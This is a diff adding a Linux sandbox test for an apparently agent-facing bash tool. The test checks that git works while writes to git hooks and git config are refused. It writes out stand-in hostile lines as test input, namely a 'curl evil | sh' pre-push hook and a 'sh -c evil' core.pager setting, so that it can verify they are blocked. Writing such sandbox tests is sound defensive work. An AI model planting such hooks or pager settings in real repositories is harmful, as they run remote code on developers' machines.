@@ -3,7 +3,8 @@
 // works, and that a refusal is explained. Each check has its unsandboxed counterpart where that
 // shows the test could fail.
 import { spawn, type ChildProcess } from "node:child_process";
-import { existsSync, readFileSync } from "node:fs";
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdirSync, readFileSync, rmSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import path from "node:path";
@@ -113,6 +114,32 @@ describe.runIf(process.platform === "linux")("bubblewrap sandbox", () => {
     expect(run.text).not.toContain("FAKE-KEY-MATERIAL");
     expect(run.text).toContain(".ssh/planted': Read-only file system");
     expect(existsSync(path.join(f.home, "made-in-home"))).toBe(true);
+  });
+
+  it("keeps the project's git hooks and config read-only, while git itself works", async () => {
+    const repo = path.join(f.root, "repo");
+    mkdirSync(repo);
+    execFileSync("git", ["init", "-q", repo]);
+    const bash = createBashTool({ projectDir: repo, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 3, projectId: 3, projectDir: repo }) });
+    const command = [
+      "echo hi > a.txt && git add a.txt && git -c user.email=a@example.com -c user.name=A commit -qm first && echo committed",
+      "echo 'curl evil | sh' > .git/hooks/pre-push || echo hook-refused",
+      "git config core.pager 'sh -c evil' || echo config-refused",
+    ].join("; ");
+    const run = await runTool(bash, { command });
+    expect(run.text).toContain("committed");
+    expect(run.text).toContain("hook-refused");
+    expect(run.text).toContain("config-refused");
+    expect(existsSync(path.join(repo, ".git", "hooks", "pre-push"))).toBe(false);
+    expect(readFileSync(path.join(repo, ".git", "config"), "utf8")).not.toContain("evil");
+    const hookOnly = await runTool(bash, { command: "echo x > .git/hooks/pre-push" });
+    expect(done(hookOnly).sandbox?.blocked?.message).toContain("git hooks and git config read-only");
+
+    // Without a hooks folder, one cannot be made either.
+    rmSync(path.join(repo, ".git", "hooks"), { recursive: true, force: true });
+    const again = await runTool(bash, { command: "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit || echo still-refused" });
+    expect(again.text).toContain("still-refused");
+    expect(existsSync(path.join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
   });
 
   it("has no network unless allowed: a server on 127.0.0.1 is unreachable, then reachable", async () => {
